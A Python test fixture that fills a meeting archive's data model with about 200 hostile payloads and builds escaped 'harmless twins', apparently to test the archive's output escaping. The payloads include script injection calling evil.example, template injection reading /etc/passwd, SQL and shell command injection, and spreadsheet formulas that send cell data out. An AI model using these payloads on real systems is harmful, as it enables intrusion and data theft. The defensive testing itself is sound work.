"""A record that means harm: 200 payloads in every text field of the model, and harmless twins.

An archive is filled from the model's own dataclasses, so that a new field is filled as well. Each
text bears a mark of its own before its payload, which keeps lists in one order and lets a search
find it. The twin of an archive has a harmless sign for each that means something to some program,
so that its pages must have the same elements, and its files the same structure.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from dataclasses import dataclass, field
from enum import StrEnum
from hashlib import sha256
from itertools import count, cycle
from typing import TYPE_CHECKING, Any

from motearkiv import model
from motearkiv.permanence.changes import append
from motearkiv.schema import Field, LineRange, ListOf, Shape, fields_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

_RUN = (
    "alert(1)", "window.__x=1", "confirm`1`", "top['al'+'ert'](1)", "fetch('//evil.example/x')",
    "document.title='x'", "import('//evil.example/x.js')",
)  # fmt: skip
_ELEMENTS = (
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<b>fet</b>",
    "<svg><script>{run}</script></svg>", "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<details open ontoggle={run}>", "<body onload={run}>", "<input autofocus onfocus={run}>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}>", "<a href=javascript:{run}>her</a>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import'//evil.example/a'</style>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}'>",
)  # fmt: skip
_BREAKS = (
    '"><script>{run}</script>', "'><img src=x onerror={run}>", "`><svg onload={run}>",
    '" onmouseover="{run}" x="', "' onfocus='{run}' autofocus='", "` onclick=`{run}`",
    '" style="background:url(//evil.example/)" x="', "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>",
    "</script><script>{run}</script>", "</noscript><img src=x onerror={run}>",
    "--><script>{run}</script>", "<!--", "--!><img src=x onerror={run}>",
    "]]><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>",
    "</svg><script>{run}</script>", "</a></p></main></body>",
    "</h1></article><script>{run}</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
)  # fmt: skip
_OTHERS = (
    # Templates and Markdown
    "{{ 7*7 }}", "{{ config.items() }}", "{% raw %}{% endraw %}", "{% include '/etc/passwd' %}",
    "{# tom #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]",
    "{{constructor.constructor('x')()}}", "${{ secrets.GITHUB_TOKEN }}", "{{ page.meta }}",
    "**fet** _skrå_ `kode`", "# Overskrift", "[her](javascript:alert(1))",
    "![x](x){: onerror=alert(1) }", "<https://evil.example/>", "~~x~~", "[^1] *[HTML]: x",
    "&copy; &#60;b&#62; &lt;b&gt;", "&amp;lt;script&amp;gt;", "&#x3C;img src=x&#x3E;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&NotEqualTilde; &notit; &ampx",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00%0d%0aSet-Cookie:%20x=1", "%s %d %(x)s", "{0} {x} {x.__class__}", "$& $` $' $1 \\1 \\g<0>",
    "\\", "\\\\", '\\"', "\\'", "a\\", "'", '"', "`", "&", "<", ">", "<>", "</", "<a", "</a", "&#",
    "&#x", "=", "/>", "''", '""', "--", "<3", "5 < 6 > 4",
    # Addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/\"onload='alert(1)",
    "?q=x#y&z", "../../../etc/passwd", "..\\..\\x", "file:///etc/passwd",
    "javascript\u200b:alert(1)",
    # UTF-7, look-alikes, invisible signs, turned writing
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "‹script›",
    "\u200b",
    "scr\u00adipt", "x\u202egpj.exe", "\u2066<script>\u2069", "\u200f\u200e\u061c", "\ufe0f\u20e3",
    "Z\u0351\u036b\u0343a", "\u0301\u0300", "\u1680\u3000\u2003x", "ﷺ", "😀\U000e0041", "\ufffd",
    "İstanbul ﬁ ẞ", "\u2060\u180e", "／．．／", "⟦U+202E⟧", "\ufffdC0\ufffdBC",
    # Tables and formulas
    "=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example/","x")',
    "x;y,z|a", '"a","b"', '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
    # Calendars, headers, citations, JSON
    "BEGIN:VEVENT", "END:VCALENDAR", "X:1;Y=2,3\\n4", "DTSTART:20310101",
    "a\\nBEGIN:VALARM\\nEND:VALARM", "Set-Cookie: a=b", "Content-Type: text/html",
    "x" * 74 + "æøå", "@article{x, title={y}}", "}, note={x}", "\\input{/etc/passwd}",
    "\\write18{id}", "{\\'e} $x^2_3$ ~ % #", "}}", "{{", "\\end{document}",
    '"},{"@type":"Person","name":"x"}', '{"$ref": "#/x"}', '","x":"', "null", "undefined", "NaN",
    "__proto__", "constructor", "toString", "hasOwnProperty", "true", "0x1", "1e309",
    # Languages of servers
    "' OR 1=1 --", '"; DROP TABLE saker; --', "$(id)", "`id`", "; id", "| id", "&& id",
    "<?php id ?>", "<!--#exec cmd='id' -->", "(?i)(a+)+$", ".*", "[[:alpha:]]", "*?", "(((((",
    ")))))", "[]{}", "maffffffffffffffffffffffffffffffffftitlez",
    '</span data-record="x/items[0].title">',
    "<span data-record='2031-01-15-radet/items[0].title'>x</span>", "<mark>x</mark>",
    "<del>x</del>", "<ins>x</ins>", "<p id='p-1'>", "<xmp>", "<plaintext>", "<frameset>",
    "<select><option>", "<table><td>", "<h1>x</h1>", "<li>", "</ol></div>", "<textarea>",
    "<title>", "<!DOCTYPE html>", "¶", '<a class="ma-anchor" href="#x">¶</a>',
    '<span class="ma-kind">x</span>',
)  # fmt: skip


def _payloads() -> Iterator[str]:
    runs = cycle(_RUN)
    for shape in (*_ELEMENTS, *_BREAKS):
        yield shape.replace("{run}", next(runs))
    yield from _OTHERS


PAYLOADS = tuple(dict.fromkeys(_payloads()))[:200]
_OVER_LINES = "\r\nBEGIN:VEVENT\r\nX-EVIL:1\r\n\r\n<script>alert(1)</script>"
"""What only a text of several lines can hold."""
_MEANS_SOMETHING = re.compile(
    "[<>&\"'`{}$\\\\=%|^~#@/;\\[\\]*+‹›＜＞¶⟦⟧\ufffd\u00ad\u200b-\u200f\u061c\u180e\u202a-\u202e\u2060-\u2069]"
)
NOT_FILLED = {
    "AgendaItem.number": "a case number, or an error",
    "AgendaItem.uncertain": "names of fields, or an error",
    "Acceptance.code": "a code, or an error",
    "Document.file": "tests/test_hostile_papers.py",
    "Attachment.file": "tests/test_hostile_papers.py",
}
"""Text fields that no payload can stand in, and why."""


_SIGNS = sorted(set(_MEANS_SOMETHING.findall("".join((*PAYLOADS, _OVER_LINES)))))
_ARROWS = {sign: chr(0x2190 + at) for at, sign in enumerate(_SIGNS)}


def harmless(text: str) -> str:
    """The twin of a text: arrows, each sign its own, for all that means something to a program."""
    return _MEANS_SOMETHING.sub(lambda sign: _ARROWS[sign[0]], text)


@dataclass
class Filler:
    """Fills dataclasses of the model with payloads."""

    payloads: tuple[str, ...] = PAYLOADS
    start: int = 0
    filled: dict[str, set[str]] = field(default_factory=dict)
    """By field of the model: the payloads that stand in it."""
    marks: dict[str, tuple[str, str]] = field(default_factory=dict)
    """By mark: the field, and the payload behind it."""
    values: int = 0
    is_harmless: bool = False

    def __post_init__(self) -> None:
        self._turn: dict[str, Iterator[int]] = {}
        self._number = count(100_000)

    def text(self, name: str, *, is_long: bool = False) -> str:
        """The next payload of a field, behind a mark: every field goes round all of them."""
        first = self.start + 7 * len(self._turn)
        payload = self.payloads[
            next(self._turn.setdefault(name, count(first))) % len(self.payloads)
        ]
        self.filled.setdefault(name, set()).add(payload)
        self.values += 1
        mark = f"K{next(self._number)}"
        whole = f"{mark} {payload}" + (f"\n\n{payload}{_OVER_LINES}" if is_long else "")
        self.marks[mark] = (name, payload)
        return harmless(whole) if self.is_harmless else whole

    def fill(self, noun: type, **given: Any) -> dict[str, Any]:  # noqa: ANN401 - the YAML's values
        """Values of all fields of a noun; one that is given as None stays out."""
        values = {
            one.name: given[one.name] if one.name in given else self._value(noun, one)
            for one in fields_of(noun)
        }
        return {name: value for name, value in values.items() if value is not None}

    def _value(self, noun: type, one: Field) -> Any:  # noqa: ANN401 - as above
        is_list = isinstance(one.shape, ListOf)
        shape: Shape = one.shape.entry if isinstance(one.shape, ListOf) else one.shape
        value = self._one(f"{noun.__name__}.{one.name}", shape)
        return None if value is None else [value] if is_list else value

    def _one(self, name: str, shape: Shape) -> Any:  # noqa: ANN401, PLR0911 - as above
        match shape:
            case model.Form("line" | "text" as form):
                return self.text(name, is_long=form == "text")
            case model.Form("url"):
                self.filled.setdefault(name, set()).add("")
                return "https://evil.example/'onload='alert(1)'/`{{7*7}}&x=1;$(id)"
            case model.Form("email"):
                self.filled.setdefault(name, set()).add("")
                return (
                    "'\"onload=alert(1)//<b>&amp;@evil.example"
                    if not self.is_harmless
                    else "a@b.no"
                )
            case model.Form() | LineRange():
                return None
        if shape is str:
            return self.text(name)
        if shape is int:
            return next(self._turn.setdefault(name, count(1)))
        if shape in _PLAIN:
            return _PLAIN[shape]
        if isinstance(shape, type) and issubclass(shape, StrEnum):
            choices = list(shape)
            return choices[next(self._turn.setdefault(name, count())) % len(choices)].value
        return None if not isinstance(shape, type) else self.fill(shape, **_GIVEN.get(shape, {}))


_PLAIN: dict[Any, str] = {bool: "true", dt.date: "2031-01-01", dt.time: "18:00"}
_GIVEN: dict[type, dict[str, Any]] = {
    model.Attachment: {"withheld": None},
    model.Acceptance: {"code": "bidi-control"},
}
"""What a noun is given wherever it stands."""


_OF_TEXT = {"line", "text", "url", "email", "file"}


def text_fields(noun: type, seen: set[type] | None = None) -> Iterator[str]:
    """Every field that holds text of some form, of a noun and of all that it holds."""
    seen = set() if seen is None else seen
    if noun in seen:
        return
    seen.add(noun)
    for one in fields_of(noun):
        shape = one.shape.entry if isinstance(one.shape, ListOf) else one.shape
        if (
            isinstance(shape, model.Form) and shape.name in {"line", "text", "url", "email", "file"}
        ) or shape is str:
            yield f"{noun.__name__}.{one.name}"
        elif isinstance(shape, type) and hasattr(shape, "__dataclass_fields__"):
            yield from text_fields(shape, seen)


ROOTS = (
    model.Meeting,
    model.Organization,
    model.Person,
    model.Topic,
    model.Fate,
    model.Settings,
)
"""What the archive's files hold."""


def write_hostile(root: Path, filler: Filler, meetings: int, settings: int = 3) -> None:
    """Write an archive of so many meetings; each has its own organization, topic, person and fate.

    Args:
        root: Folder that gets `data/`.
        filler: Fills it, and knows what stands where.
        meetings: How many.
        settings: How many payloads the archive's own name and its like hold at once.
    """
    data = root / "data"
    (data / "documents").mkdir(parents=True)
    _write(data / "archive.yml", _settings(filler, settings))
    registers: dict[str, list[Any]] = {"organizations": [_body(filler)]}
    for number in range(1, meetings + 1):
        day = _day(number)
        person = filler.fill(model.Person, id=f"p-{number}", organization="radet", accept=None)
        own = f"o-{number}"
        _write(
            data / f"meetings/{day.year}/{day.isoformat()}-radet.yml",
            _meeting(filler, number, day, person["name"], data / "documents"),
        )
        add = registers.setdefault
        add("organizations", []).append(_organization(filler, own))
        add("people", []).append(person)
        add("topics", []).append(filler.fill(model.Topic, id=f"t-{number}", accept=None))
        now = f"sak/r-{number}-{day:%y}/"
        way = {"to": [now], "gone": None} if number % 2 else {"to": None}
        fate = f"sak/r-{number + 5000}-28/"
        add("addresses", []).append(filler.fill(model.Fate, address=fate, **way))
    for name, entries in registers.items():
        _write(data / f"{name}.yml", entries)
    _write(data / "search.yml", _search(filler))
    append(root, list(_changes(filler, meetings)), dt.date(2031, 1, 1))


def _day(number: int) -> dt.date:
    """The day of a meeting: each has its own, and there are some in every year."""
    return dt.date(2028, 1, 1) + dt.timedelta(days=number * 5)


def _write(file: Path, values: object) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps(values, ensure_ascii=False, indent=1) + "\n", "utf-8")


def _settings(filler: Filler, count_: int) -> dict[str, Any]:
    found = filler.fill(model.Settings, language="nb", as_of="2031-06-01", default_body="radet")
    # Everything is shown, and nobody's name is kept from search.
    found["outputs"] = found["privacy"] = {}
    for name, value in found.items():
        if isinstance(value, str) and value.startswith("K"):
            more = " ".join(filler.text(f"Settings.{name}") for _ in range(count_ - 1))
            found[name] = f"{value} {more}".strip()
    return found


def _body(filler: Filler) -> dict[str, Any]:
    own = {"id": "radet", "slug": "r", "classification": "body", "parent": None, "accept": None}
    series = ["R", filler.text("Organization.series")]
    return filler.fill(model.Organization, **own, series=series)


def _organization(filler: Filler, own: str) -> dict[str, Any]:
    given = {"slug": None, "series": None, "parent": "radet", "accept": None}
    found = filler.fill(model.Organization, id=own, **given)
    return found | ({"classification": "company"} if found["classification"] == "body" else {})


def _meeting(
    filler: Filler, number: int, day: dt.date, person: str, papers: Path
) -> dict[str, Any]:
    own = {"organization": f"o-{number}"}
    paper = f"Papir {number}.\n".encode()
    (papers / f"p{number}.txt").write_bytes(paper)
    documents = [
        filler.fill(
            model.Document, id="d1", withheld=None, file=f"p{number}.txt",
            sha256=sha256(paper).hexdigest(), kind="minutes",
        ),
        filler.fill(model.Document, id="d2"),
        filler.fill(model.Document, id="d3", withheld=None, kind="agenda"),
    ]  # fmt: skip
    attendance = [
        filler.fill(model.Attendance, name=person, role="chair", **own),
        filler.fill(model.Attendance),
        filler.fill(model.Attendance, present="false"),
    ]
    item = _item(filler, number)
    hidden = filler.fill(
        model.AgendaItem, number=f"R {number + 1000}/{day:%y}",
        **{one.name: None for one in fields_of(model.AgendaItem)
           if one.name not in {"number", "title", "withheld"}},
    )  # fmt: skip
    return filler.fill(
        model.Meeting, body="radet", date=day.isoformat(), documents=documents,
        attendance=attendance, items=[item | {"number": f"R {number}/{day:%y}"}, hidden],
        status=("held", "held", "cancelled")[number % 3] if number % 5 else "held",
        attachments=_attachments(filler), accept=None, votes=[_vote(filler)],
        unparsed=[filler.fill(model.Unparsed, document="d1")] if number % 4 == 0 else None,
    )  # fmt: skip


def _vote(filler: Filler) -> dict[str, Any]:
    """A vote on the meeting itself, under a name of its own: unlike others, no page shows it."""
    own = {name: filler.text(f"Meeting.votes {name}") for name in ("subject", "as_printed")}
    return filler.fill(model.Vote, **own)


def _item(filler: Filler, number: int) -> dict[str, Any]:
    presenters = [filler.fill(model.Presenter, organization=f"o-{number}")]
    own = {"case": None, "part": None, "lang": None, "withheld": None, "uncertain": None}
    item = filler.fill(
        model.AgendaItem, number="", **own, presenters=presenters, topics=[f"t-{number}"],
        recommends_to="radet", source=[{"document": "d1", "page": number}],
        attachments=_attachments(filler),
    )  # fmt: skip
    # A mistake must stand in the text that it is a mistake of.
    item["description"] += f"\n\n{item['errata'][0]['stood']}"
    return item


def _attachments(filler: Filler) -> list[dict[str, Any]]:
    return [
        filler.fill(model.Attachment, withheld=None),
        filler.fill(model.Attachment, url=None),
    ]


def _search(filler: Filler) -> dict[str, Any]:
    words = [filler.text(f"search.yml {at}") for at in range(5)]
    return {
        "parts": [words[0]],
        "protected": [words[1]],
        "nynorsk": {words[2]: words[3]},
        "synonyms": [[words[4], "heis"]],
    }


def _changes(filler: Filler, meetings: int) -> Iterator[dict[str, str]]:
    kinds = ("corrected", "added", "renamed", "corrected")
    for number in range(1, meetings + 1):
        day = _day(number)
        page = f"sak/r-{number}-{day:%y}/" if number % 2 else f"mote/{day.isoformat()}-radet/"
        words = {key: filler.text(f"changes.jsonl {key}") for key in ("before", "now", "reason")}
        yield {"kind": kinds[number % 4], "address": page, **words}
